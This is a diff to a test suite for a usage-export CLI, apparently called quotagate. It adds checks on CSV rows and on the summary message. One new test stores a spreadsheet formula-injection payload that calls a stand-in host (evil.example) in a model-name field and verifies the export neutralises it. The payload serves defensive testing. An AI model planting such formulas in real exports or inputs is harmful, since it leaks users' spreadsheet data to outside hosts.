@@ -42,7 +42,8 @@ describe('quotagate usage export', () => {
       world.tables.config,
     ];
     const recorder = world.runtime();
-    // Records on 25, 26 and 27 November, over several users, keys and accounts.
+    // Records every 4 hours from 25 November 12:00 to 27 November 08:00 UTC, over several users,
+    // keys and accounts.
     for (let index = 0; index < 12; index += 1) {
       const startedAt = T0 - 2 * 24 * HOUR + index * 4 * HOUR;
       await recorder.record(
@@ -65,6 +66,32 @@ describe('quotagate usage export', () => {
     assert.equal(lines.length, 1 + 12);
     const ids = lines.slice(1).map((line) => line.split(',')[0]);
     assert.deepEqual(ids, [...ids].sort());
+    // Each row names its user's email (the fixtures' users are <id>@example.com).
+    const userAt = CSV_COLUMNS.indexOf('userId');
+    for (const line of lines.slice(1)) {
+      const cells = line.split(',');
+      assert.equal(cells[userAt + 1], `${cells[userAt]}@example.com`);
+    }
+  });
+
+  it('neutralises a formula a client put in the model name, end to end', async () => {
+    // Prepare: a client asks for a "model" that a spreadsheet would run.
+    const startedAt = Date.parse('2026-11-20T10:00:00.000Z');
+    await world.runtime().record(
+      usageEvent('exp-hostile', KEYS[0] as ApiKey, {
+        startedAt: new Date(startedAt).toISOString(),
+        endedAt: new Date(startedAt + 1000).toISOString(),
+        modelRequested: '=HYPERLINK("http://evil.example/?"&A1,"ok")',
+      }),
+    );
+
+    // Act
+    const { code, stdout } = await run(['export', '--from', '2026-11-20', '--to', '2026-11-20']);
+
+    // Assess: the cell starts with a quote mark, so no spreadsheet evaluates it.
+    assert.equal(code, 0);
+    const row = stdout.trimEnd().split('\n')[1] ?? '';
+    assert.ok(row.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""ok"")"`), row);
   });
 
   it('treats an ISO --to as exclusive and filters by user, key and account', async () => {
@@ -120,6 +147,13 @@ describe('quotagate usage export', () => {
       assert.equal(code, 0);
       assert.equal(stdout, '');
       assert.match(stderr, /\rExported 12 records\./);
+      assert.match(
+        stderr,
+        new RegExp(
+          `Wrote 12 usage record\\(s\\) \\(--from 2026-11-25 --to 2026-11-27; started 2026-11-25T12:00:00.000Z ` +
+            `to 2026-11-27T08:00:00.000Z\\) as CSV to ${file.replaceAll('.', '\\.')}\\.`,
+        ),
+      );
       assert.equal((await readFile(file, 'utf8')).trimEnd().split('\n').length, 13);
     } finally {
       await rm(folder, { recursive: true, force: true });
